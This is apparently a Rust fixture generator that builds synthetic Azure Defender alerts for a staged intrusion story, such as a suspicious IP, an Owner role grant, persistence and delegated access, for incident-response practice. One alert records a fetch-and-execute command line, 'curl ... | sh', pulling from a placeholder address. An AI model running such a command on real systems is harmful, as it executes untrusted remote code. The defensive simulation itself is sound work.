//! The Defender alerts of the story, with and without entities, one a sample, one resolved, one
//! also in the log.

use serde_json::{Value, json};

use super::alert::Alert;
use super::cast::{
    self, ADMIN, INTRUDER, INTRUDER_HOST, INVENTORY, PROD, PROD_ID, RELAY_HOST, RELAY_USER,
};
use super::model::Principal;
use super::script::Script;
use super::story_attack::VM;
use super::time;

const ADVICE: &str =
    "Ask the owner of the account whether the activity was intended, and contain it if not.";

/// Writes the alerts, and the events that the Activity Log keeps of some.
pub(crate) fn alerts(script: &mut Script) {
    from_account(script);
    unusual_grant(script);
    persistence(script);
    through_delegation(script);
    sample(script);
    script_extension(script);
    by_service_principal(script);
    for alert in &script.incident.alerts {
        if alert.logged {
            script.incident.operations.push(alert.operation(PROD_ID));
        }
    }
}

/// Starts an alert on the whole production subscription.
fn alert(script: &mut Script, day: u64, clock: &str, kind: &str, title: &str) -> Alert {
    let start = script.at(day, clock);
    let raised = start + 95 * time::SECOND + script.seed.next() % time::SECOND;
    Alert {
        name: format!("{}_{}", time::countdown(start), script.seed.guid()),
        subscription: PROD,
        group: None,
        kind: kind.into(),
        title: title.into(),
        description: format!(
            "{title}. Found by analysis of the resource management operations in your subscription."
        ),
        severity: "Medium".into(),
        intents: Vec::new(),
        resource: cast::resource(PROD, ""),
        compromised: PROD_ID.into(),
        component: "ARM".into(),
        start,
        end: start,
        generated: raised,
        entities: None,
        extended: vec![("resourceType".into(), "ARM".into())],
        remediation: vec![ADVICE.into()],
        updates: Vec::new(),
        logged: false,
    }
}

fn facts(alert: &mut Alert, pairs: &[(&str, &str)]) {
    alert.extended.splice(0..0, pairs.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())));
}

/// Returns account, address, resource and a connection that refers to the address.
fn entities(actor: &Principal, address: &str, resource: &str) -> Vec<Value> {
    let (name, suffix) = actor.login.split_once('@').unwrap_or((&actor.name, ""));
    let mut account = json!({
        "$id": "2",
        "name": name,
        "aadTenantId": actor.tenant,
        "aadUserId": actor.object_id,
        "isValid": true,
        "type": "account",
    });
    if !suffix.is_empty() {
        account["upnSuffix"] = suffix.into();
    }
    vec![
        account,
        json!({"$id": "3", "resourceId": resource, "type": "azure-resource"}),
        json!({
            "$id": "4",
            "address": address,
            "location": {"countryCode": "ZZ", "city": "Nowhere", "asn": 64496},
            "type": "ip",
        }),
        json!({"$id": "5", "sourceAddress": {"$ref": "4"}, "type": "network-connection"}),
    ]
}

/// The administrator's account comes from a bad address.
fn from_account(script: &mut Script) {
    let title = "Azure Resource Manager operation from suspicious IP address";
    let mut alert = alert(script, 3, "21:47:09", "ARM_OperationFromSuspiciousIP", title);
    let admin = &script.incident.principals[ADMIN];
    alert.end = alert.start + 486 * time::SECOND;
    alert.intents = vec!["Execution".into()];
    alert.entities = Some(entities(admin, INTRUDER, &alert.resource));
    facts(&mut alert, &[("User name", &admin.login), ("IP address", INTRUDER)]);
    script.incident.alerts.push(alert);
}

/// The grant of Owner.
fn unusual_grant(script: &mut Script) {
    let title = "Suspicious Azure role assignment detected (Preview)";
    let mut alert = alert(script, 3, "22:04:47", "ARM_AnomalousRBACRoleAssignment", title);
    let (admin, inventory) =
        (&script.incident.principals[ADMIN], &script.incident.principals[INVENTORY]);
    alert.severity = "High".into();
    alert.intents = vec!["LateralMovement".into(), "DefenseEvasion".into()];
    alert.entities = Some(entities(admin, INTRUDER, &alert.resource));
    let scope = alert.resource.clone();
    facts(
        &mut alert,
        &[
            ("Scope of assignment", &scope),
            ("Assigned role definition ID", cast::OWNER),
            ("Assignee principal ID", &inventory.object_id),
            ("Assigner principal ID", &admin.object_id),
        ],
    );
    script.incident.alerts.push(alert);
}

/// Runbook and webhook: the facts stand in the extended properties alone.
fn persistence(script: &mut Script) {
    let title = "Usage of NetSPI techniques to maintain persistence in your Azure environment";
    let mut alert = alert(script, 4, "00:16:02", "ARM_NetSPI.MaintainPersistence", title);
    let object_id = script.incident.principals[INVENTORY].object_id.clone();
    alert.severity = "High".into();
    alert.intents = vec!["Persistence".into()];
    facts(
        &mut alert,
        &[
            ("PrincipalOid", &object_id),
            ("IP address", INTRUDER_HOST),
            ("Username", "svc-inventory"),
        ],
    );
    script.incident.alerts.push(alert);
}

/// The managing tenant's user.
fn through_delegation(script: &mut Script) {
    let title =
        "Azure Resource Manager operation from suspicious proxy IP address (delegated access)";
    let mut alert = alert(script, 4, "03:02:20", "ARM_OperationFromSuspiciousProxyIP", title);
    let user = &script.incident.principals[RELAY_USER];
    alert.end = alert.start + 830 * time::SECOND;
    alert.intents = vec!["DefenseEvasion".into()];
    alert.entities = Some(entities(user, RELAY_HOST, &alert.resource));
    facts(&mut alert, &[("User name", &user.login), ("IP address", RELAY_HOST)]);
    script.incident.alerts.push(alert);
}

/// A sample that someone had made to try the notifications.
fn sample(script: &mut Script) {
    let title = "[SAMPLE ALERT] MicroBurst exploitation toolkit used to extract keys to your storage accounts (Preview)";
    let mut alert =
        alert(script, 1, "10:40:00", "SIMULATED_ARM_MicroBurst.AZStorageKeysREST", title);
    alert.description = format!("THIS IS A SAMPLE ALERT: {}", alert.description);
    alert.severity = "High".into();
    alert.intents = vec!["Collection".into()];
    let nobody = "00000000-0000-0000-0000-000000000000";
    facts(
        &mut alert,
        &[("PrincipalOid", nobody), ("IP address", "00.00.00.000"), ("Username", "Sample user")],
    );
    script.incident.alerts.push(alert);
}

/// The script on the virtual machine; this one is in the Activity Log too.
fn script_extension(script: &mut Script) {
    let title = "Custom script extension with suspicious payload in your virtual machine";
    let mut alert =
        alert(script, 4, "00:38:14", "VM_CustomScriptExtensionSuspiciousPayload", title);
    alert.group = Some("rg-shop-prod".into());
    alert.resource = cast::resource(PROD, VM);
    alert.compromised = "vm-web-01".into();
    alert.component = "Servers".into();
    alert.intents = vec!["Execution".into()];
    let host = json!({
        "$id": "2",
        "hostName": "vm-web-01",
        "azureID": alert.resource,
        "osFamily": "Linux",
        "type": "host",
    });
    let process = json!({
        "$id": "3",
        "processId": "0x3f1",
        "commandLine": "curl -s http://198.51.100.77/s | sh",
        "host": {"$ref": "2"},
        "type": "process",
    });
    alert.entities = Some(vec![host, process]);
    alert.extended = vec![
        ("Compromised Host".into(), "vm-web-01".into()),
        ("Suspicious Command Line".into(), "curl -s http://198.51.100.77/s | sh".into()),
        ("resourceType".into(), "Virtual Machine".into()),
    ];
    alert.logged = true;
    script.incident.alerts.push(alert);
}

/// The service principal at work; resolved by the operations people in the morning.
fn by_service_principal(script: &mut Script) {
    let title = "PREVIEW - Suspicious invocation of a high-risk 'Persistence' operation by a service principal detected";
    let mut alert =
        alert(script, 4, "00:12:06", "ARM_AnomalousServiceOperation.Persistence", title);
    let inventory = &script.incident.principals[INVENTORY];
    alert.intents = vec!["Persistence".into()];
    alert.entities = Some(entities(inventory, INTRUDER_HOST, &alert.resource));
    facts(
        &mut alert,
        &[("Application ID", &inventory.app_id), ("Attacker object ID", &inventory.object_id)],
    );
    alert.updates = vec![(script.at(4, "09:05:30"), "Resolved".into())];
    script.incident.alerts.push(alert);
}

#[cfg(test)]
mod tests {
    use super::super::story;
    use super::*;

    #[test]
    fn the_alerts_differ_in_what_readers_stumble_over() {
        let alerts = story().alerts;
        let count = |test: &dyn Fn(&Alert) -> bool| alerts.iter().filter(|a| test(a)).count();
        assert_eq!(alerts.len(), 7);
        assert_eq!(count(&|a| a.kind.starts_with("SIMULATED_")), 1);
        assert_eq!(count(&|a| a.title.contains("delegated access")), 1);
        assert_eq!(count(&|a| a.entities.is_none()), 2);
        assert_eq!(count(&|a| a.status() == "Resolved"), 1);
        assert_eq!(count(&|a| a.logged), 1);
    }

    #[test]
    fn the_name_of_an_alert_tells_its_start() {
        for alert in story().alerts {
            let number: u64 =
                alert.name.split('_').next().expect("a part").parse().expect("a number");
            assert_eq!(number, time::countdown(alert.start));
        }
    }
}
